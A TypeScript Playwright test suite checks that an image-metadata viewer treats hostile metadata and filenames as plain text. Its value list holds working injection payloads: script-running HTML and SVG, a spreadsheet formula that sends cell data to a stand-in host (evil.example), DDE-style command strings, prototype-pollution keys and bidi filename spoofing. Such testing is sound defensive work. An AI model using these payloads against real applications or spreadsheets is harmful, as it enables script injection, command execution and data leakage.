import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { drawnJpeg } from './support/drawn.ts';
import { type PageService, pageService, withoutBrowser } from './support/page-service.ts';
import { TAG, tellingPicture } from './support/telling-picture.ts';

/** Class 14 of what comes in files: markup, formulas, controls, turned writing, names of prototypes, endless digits and words. */
const VALUES = [
  '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>',
  '"><svg/onload=window.hacked=3>',
  'javascript:window.hacked=4',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '\tline\r\nX-Injected: yes\r\n',
  '\u001b[31mred\u001b[0m\u0007',
  '\u202egnp.exe\u202c \u2066turned\u2069',
  '__proto__',
  'constructor',
  `${'9'.repeat(20_000)}`,
  `${'W'.repeat(4_000)}`,
  '171546:13:99 99:99:99',
  '{{constructor.constructor("window.hacked=5")()}}',
  '</textarea></title><style>*{display:none}</style>',
  '&lt;b&gt; &amp; &#x27;',
  '\ud83d\ude00\u0301\u0301\u0301\u0301 \u0644\u0627',
] as const;

const FIELDS = [TAG.make, TAG.model, TAG.artist, TAG.copyright, TAG.description, TAG.software] as const;

describe('hostile values', { skip: withoutBrowser }, () => {
  let house: PageService;
  let pixels: Buffer;
  before(async () => {
    house = await pageService();
    pixels = await drawnJpeg({ width: 120, height: 80 });
  });
  after(() => house?.[Symbol.asyncDispose]());

  /** Every field of the file says the same, its name included. */
  function hostile(value: string): Buffer {
    const short = value.slice(0, 12_000);
    const escaped = short
      .replace(/[&<>"]/g, (each) => `&#${each.charCodeAt(0)};`)
      .replace(/[\u0000-\u0008\u000b-\u001f]/g, '');
    const items = (list: string) => `<rdf:${list}><rdf:li>${escaped}</rdf:li></rdf:${list}>`;
    const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"><dc:title>${items('Alt')}</dc:title><dc:subject>${items('Bag')}</dc:subject><dc:creator>${items('Seq')}</dc:creator><photoshop:City>${escaped}</photoshop:City></rdf:Description></rdf:RDF></x:xmpmeta>`;
    const texts = Object.fromEntries(FIELDS.map((tag) => [tag, short.slice(0, 4_000)]));
    return tellingPicture(pixels, {
      texts,
      taken: short.slice(0, 30),
      serial: short.slice(0, 60),
      position: [1, 2],
      xmp,
    });
  }

  const nameOf = (value: string): string => `${value.replace(/[/\0]/g, '_').slice(0, 120)}.jpg`;

  async function quiet(page: Page, where: string): Promise<void> {
    assert.equal(
      await page.evaluate(() => (globalThis as { hacked?: number }).hacked),
      undefined,
      `${where}: a script ran`,
    );
    const { wide, seen } = await page.evaluate(() => ({
      wide: document.documentElement.scrollWidth - document.body.offsetWidth,
      seen: document.querySelectorAll(
        'main img:not([src^="blob:"]), main script, main iframe, main style, main [onerror]',
      ).length,
    }));
    assert.equal(wide, 0, `${where}: wider than the window by ${wide} pixels`);
    assert.equal(seen, 0, `${where}: something of the value became an element`);
  }

  it('are words and nothing else in every view, and the layout holds, at 360 pixels', async () => {
    const { page, context, complaints } = await house.open('/', { viewport: { width: 360, height: 740 } });
    const files = VALUES.map((value) => ({ name: nameOf(value), mimeType: 'image/jpeg', buffer: hostile(value) }));
    await page.locator('input[type=file]').first().setInputFiles(files);
    await page.getByText(`${VALUES.length} files read`).waitFor();
    await quiet(page, 'the list');
    const rows = page.locator('.file-row-main');
    for (const [index, value] of VALUES.entries()) {
      await page.locator('.files .virtual').evaluate((list, top) => list.scrollTo(0, top), index * 68);
      await rows
        .filter({ has: page.locator('bdi', { hasText: nameOf(value).trim().slice(0, 12) }) })
        .first()
        .click();
      for (const tab of ['Overview', 'All tags', 'Clean', 'Inside the file']) {
        await page.getByRole('tab', { name: tab }).click();
        if (tab === 'Clean') await page.locator('.inventory').waitFor();
        await quiet(page, `${tab} of ${JSON.stringify(value.slice(0, 30))}`);
      }
    }
    assert.deepEqual(complaints, []);
    await context.close();
  });

  it('stand in the comparison as words', async () => {
    const { page, context, complaints } = await house.open('/compare', { viewport: { width: 360, height: 740 } });
    const inputs = page.locator('input[type=file]');
    await inputs
      .nth(0)
      .setInputFiles([{ name: nameOf(VALUES[0]), mimeType: 'image/jpeg', buffer: hostile(VALUES[0]) }]);
    await inputs
      .nth(1)
      .setInputFiles([{ name: nameOf(VALUES[11]), mimeType: 'image/jpeg', buffer: hostile(VALUES[11]) }]);
    await page.locator('.differences').waitFor();
    await quiet(page, 'the comparison');
    assert.deepEqual(complaints, []);
    await context.close();
  });

  it('are safe in a table, whole in JSON, and no markup in XMP', async () => {
    const { page, context } = await house.open('/');
    for (const value of VALUES) {
      await page
        .locator('input[type=file]')
        .first()
        .setInputFiles([{ name: 'x.jpg', mimeType: 'image/jpeg', buffer: hostile(value) }]);
      await page.getByRole('button', { name: 'Save as CSV' }).waitFor();
      const save = async (format: string): Promise<string> => {
        const [saved] = await Promise.all([
          page.waitForEvent('download'),
          page.getByRole('button', { name: `Save as ${format}` }).click(),
        ]);
        return await readFile(await saved.path(), 'utf8');
      };
      const csv = await save('CSV');
      for (const cell of cellsOf(csv))
        assert.doesNotMatch(cell, /^\s*(?:[=@|%]|[+-](?!\d+(?:\.\d+)?$))/, JSON.stringify(cell.slice(0, 60)));
      const json = JSON.parse(await save('JSON'));
      assert.equal(json.fileName, 'x.jpg');
      assert.equal(Object.getPrototypeOf(json), Object.prototype);
      const xmp = await save('XMP');
      const isSound = await page.evaluate((text) => {
        const document = new DOMParser().parseFromString(text, 'application/xml');
        return !document.querySelector('parsererror') && !document.querySelector('script, svg, img, style');
      }, xmp);
      assert.ok(isSound, `XMP of ${JSON.stringify(value.slice(0, 40))}`);
      await page.getByRole('button', { name: /Add files/ }).waitFor();
      await page.reload();
      await page.waitForSelector('main h1');
    }
    await context.close();
  });
});

/** Cells of a table whose every cell is quoted. */
function cellsOf(csv: string): readonly string[] {
  return [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
}
